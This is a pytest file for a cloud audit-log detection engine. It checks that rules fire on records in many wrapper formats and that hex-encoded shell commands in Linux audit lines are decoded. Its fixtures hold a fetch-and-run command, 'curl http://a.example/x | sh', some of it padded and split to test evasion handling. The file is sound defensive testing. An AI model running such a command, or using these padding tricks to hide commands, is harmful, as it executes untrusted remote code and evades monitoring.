"""A rule hits an audit record in whatever form a bus, an export or a common schema gives it."""
import base64
import json
from pathlib import Path

import pytest
from events import text_and_sourcetype
from hypothesis import given, settings
from hypothesis import strategies as st

from aiscore_contract.forms.records import as_written
from aiscore_contract.forms.services import SERVICES
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.pack import default_pack_path, load_pack

ENGINE = RuleEngine(load_pack(default_pack_path()))
EVENTS = json.loads((Path(__file__).parent / "events.json").read_text(encoding="utf-8"))
TEXTS = ("userIdentity", "requestParameters", "responseElements", "additionalEventData")


def lowered(record):
    """As Athena gives it: names in lower case, objects as texts."""
    return {name.lower(): json.dumps(value) if name in TEXTS and name != "userIdentity" else value for name, value in record.items()}


def columns(record):
    """A table with a column for each member of `userIdentity`."""
    identity = record.get("userIdentity")
    flat = {f"userIdentity{name}": value for name, value in identity.items() if not isinstance(value, dict)} if isinstance(identity, dict) else {}
    return {**{name: json.dumps(value) if isinstance(value, dict) else value for name, value in record.items() if name != "userIdentity"}, **flat}


def bigquery(record):
    return {**{name: value for name, value in record.items() if name != "protoPayload"}, "protopayload_auditlog": record["protoPayload"]}


def capitals(record):
    """As Log Analytics keeps what a stream gave it."""
    found = {name[:1].upper() + name[1:]: json.dumps(value) if isinstance(value, (dict, list)) else value for name, value in record.items()}
    return {**found, "TimeGenerated": "2031-03-01T10:11:12Z", "OperationName": record["operationName"]}


#: What a record must have, and how the form is made of it.
FORMS = {
    "array of a trail": ("eventSource", lambda record: {"Records": [record]}),
    "log events": ("eventSource", lambda record: {
        "messageType": "DATA_MESSAGE", "owner": "1", "logGroup": "g", "logStream": "s", "subscriptionFilters": ["f"],
        "logEvents": [{"id": "1", "timestamp": 1, "message": json.dumps(record)}]}),
    "event of a bus": ("eventSource", lambda record: {
        "version": "0", "detail-type": "AWS API Call via CloudTrail", "source": "aws.x", "account": "1", "region": "r", "resources": [], "detail": record}),
    "notification": ("eventSource", lambda record: {"Type": "Notification", "MessageId": "1", "TopicArn": "arn:aws:sns:x", "Message": json.dumps(record)}),
    "event history": ("eventSource", lambda record: {
        "EventId": "1", "EventName": record.get("eventName"), "EventSource": record["eventSource"], "CloudTrailEvent": json.dumps(record)}),
    "lake": ("eventSource", lambda record: {"eventData": record, "metadata": {"ingestionTime": "x"}}),
    "lower case": ("eventSource", lowered), "columns": ("eventSource", columns),
    "audit data": ("Workload", lambda record: {
        "RecordType": 1, "CreationDate": "x", "UserIds": "ann@example.org", "Operations": record.get("Operation"), "AuditData": json.dumps(record)}),
    "row of an export": ("Workload", lambda record: '2031-01-01T00:00:00Z,ann@example.org,x,"' + json.dumps(record).replace('"', '""') + '"'),
    "publication": ("protoPayload", lambda record: {
        "message": {"data": base64.b64encode(json.dumps(record).encode()).decode(), "messageId": "1", "publishTime": "x"}, "subscription": "s"}),
    "big query": ("protoPayload", bigquery), "data as a text": ("protoPayload", lambda record: {"data": json.dumps(record), "attributes": {"a": "b"}, "publish_time": 1}),
    "hook": ("actor", lambda record: {"eventType": "com.okta.event_hook", "eventId": "1", "source": "s", "data": {"events": [record]}}),
    "answer of an interface": ("activityDisplayName", lambda record: {"@odata.context": "x", "value": [record]}),
    "records of a hub": ("operationName", lambda record: {"records": [record]}), "body of a hub": ("operationName", lambda record: {
        "body": record, "x-opt-sequence-number": 1, "x-opt-offset": "1", "x-opt-enqueued-time": 1}), "row of a workspace": ("operationName", capitals),
    "list of events": ("auditID", lambda record: {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": [record]}),
    "log of a cluster": ("auditID", lambda record: {
        "time": "x", "resourceId": "/subscriptions/0", "category": "kube-audit", "operationName": "x", "properties": {"log": json.dumps(record), "stream": "stdout"}}),
    "collector": ("", lambda record: {"time": 1, "host": "h", "source": "s", "sourcetype": "x", "event": record}),
    "telemetry": ("", lambda record: {"resourceLogs": [{"resource": {"attributes": []}, "scopeLogs": [{"logRecords": [{
        "timeUnixNano": "1", "body": {"stringValue": json.dumps(record)}, "attributes": []}]}]}]})}
CLOUDS = ("eventSource", "Workload", "protoPayload", "operationName", "activityDisplayName", "auditID", "legacyEventType")


def records_with(name):
    """(rule, record) of the rules' own examples that have this name; of any cloud's where none is asked for."""
    for rule_id, events in EVENTS.items():
        for entry in events["match"]:
            text, _ = text_and_sourcetype(entry)
            try:
                record = json.loads(text)
            except ValueError:
                continue
            if isinstance(record, dict) and len(record) > 2 and (name in record if name else any(cloud in record for cloud in CLOUDS)):
                yield rule_id, record


@pytest.mark.parametrize("form", sorted(FORMS))
def test_every_rule_hits_its_record_as(form):
    name, made = FORMS[form]
    asked, lost = 0, []
    for rule_id, record in records_with(name):
        written, whole = made(record), json.dumps(record)
        if rule_id in ENGINE.judge(whole, "").rule_ids:
            asked += 1
            if rule_id not in ENGINE.judge(written if isinstance(written, str) else json.dumps(written), "").rule_ids:
                lost.append((rule_id, whole[:300]))
    assert asked and not lost


@pytest.mark.parametrize(("raw", "title"), [
    ({"event_type_id": 24, "actor_user_name": "Eve", "user_name": "Bob", "ipaddr": "203.0.113.9"}, "Second factor switched off, reset or bypassed"),
    ({"object": "event", "type": 1003, "actingUserId": "u", "ipAddress": "203.0.113.9"}, "Second factor switched off, reset or bypassed"),
    ({"log_id": "1", "type": "fp", "ip": "203.0.113.9", "user_name": "bob"}, "Login to a service failed, or the service thought it odd"),
    ({"auditType": {"action": "Repository made public"}, "author": {"name": "Eve"}, "affectedObjects": [{"name": "r"}]}, "Content or project of a service opened to everybody"),
    ({"action": "created", "key": {"title": "k"}, "repository": {"full_name": "o/r"}, "sender": {"login": "eve"}}, "Key, token or application of a service made"),
    ({"event_type": "user_admin_granted", "initiated_by": {"email": "eve@example.org"}, "client_ip": "203.0.113.9"}, "Owner or administrator of a service made"),
    ({"tag": "authentication", "app": "vpn", "src": "203.0.113.9", "user": "bob", "action": "failure"}, "Login to a service failed, or the service thought it odd")])
def test_rules_for_any_service_hit_one_that_has_names_of_its_own(raw, title):
    assert title in ENGINE.judge(json.dumps(raw), "").reasons


def test_allowed_calls_of_a_search_cluster_are_no_grant_of_an_administrators_rights():
    record = {"audit_cluster_name": "c", "audit_node_name": "n", "audit_category": "GRANTED_PRIVILEGES", "audit_request_privilege": "indices:admin/delete", "audit_request_effective_user": "ann"}
    assert not ENGINE.judge(json.dumps(record), "").rule_ids


def test_all_records_of_an_array_are_judged():
    trail = {"eventSource": "cloudtrail.amazonaws.com", "awsRegion": "us-east-1", "userIdentity": {"type": "IAMUser", "userName": "eve"}, "sourceIPAddress": "203.0.113.9"}
    stopped = {**trail, "eventName": "StopLogging"}
    alone = ENGINE.judge(json.dumps(stopped), "").rule_ids
    assert alone and set(alone) <= set(ENGINE.judge(json.dumps({"Records": [{**trail, "eventName": "CreateTags"}, stopped]}), "").rule_ids)


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30) | st.sampled_from(
    ["{", "[1]", '{"a":1}', "eyJhIjoxfQ==", "{a=b, c={d=e}}", "\ud800"]),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=5), max_leaves=12)
NAMES = sorted({name for service in SERVICES for name in service.signs} | set("""
    Records value items logEvents data message body detail event properties finding syslog CloudTrailEvent AuditData TimeGenerated OperationName OfficeWorkload eventname eventsource
    eventName eventSource useridentity protopayload_auditlog actor_alternateId aws gcp okta azure o365 google_workspace class_uid activity_id metadata principal attributes timeUnixNano
    request_params action_name service_name event_name email protoPayload ProductArn Title insightDetails short_message version sender repository integration rule""".split()))


@settings(max_examples=600, deadline=None)
@given(st.dictionaries(st.sampled_from(NAMES), JSON, max_size=9))
def test_records_with_names_of_providers_and_odd_values_are_read(record):
    found = as_written(record)
    assert found is None or isinstance(found, dict)
    assert read_facts(json.dumps(record)).fields is not None


@pytest.mark.parametrize("arguments", [
    'a0="sh" a1="-c" a2_len=16000 a2[0]={0} a2[1]={1}', 'a0="sh" a1="-c" a2_len=16000 a2[0]={0} a2[1]={1} a3="x"',
    'a0="sh" a1="-c" a2={0}{1}'])
def test_an_argument_in_pieces_is_one_argument(arguments):
    script = "true " + "#" * 7_000 + "\ncurl http://a.example/x | sh"
    whole = script.encode().hex().upper()
    line = "type=EXECVE msg=audit(1900000000.123:42): argc=3 " + arguments.format(whole[:7_500], whole[7_500:])
    for text in (line, "type=SYSCALL msg=audit(1900000000.123:42): arch=c000003e syscall=59 exe=\"/bin/sh\" " + line):
        assert "curl http://a.example/x | sh" in read_facts(text, "").fields["commandline"]


@pytest.mark.parametrize("script", ["id ", "w ;", "ls -la /root"])
def test_a_short_script_with_a_blank_is_read(script):
    line = f'type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="sh" a1="-c" a2={script.encode().hex().upper()}'
    assert read_facts(line, "").fields["commandline"].rstrip() == f"sh -c {script}".rstrip()


@pytest.mark.parametrize("script", ["true\ncurl http://a.example/x | sh", "true #\x01\tcurl http://a.example/x", "\u00fctrue \x7f curl http://a.example/x"])
@pytest.mark.parametrize("line, name", [('type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="sh" a1="-c" a2={}', "commandline"),
                                        ("type=USER_CMD msg=audit(1900000000.123:42): pid=7 uid=0 msg='cwd=\"/\" cmd={} terminal=pts/0 res=success'", "cmd"),
                                        ("type=TTY msg=audit(1900000000.123:42): tty pid=7 uid=0 comm=\"bash\" data={}", "data")])
def test_no_character_in_a_command_keeps_it_encoded(line, name, script):
    assert "curl http://a.example/x" in read_facts(line.format(script.encode().hex().upper()), "").fields[name]
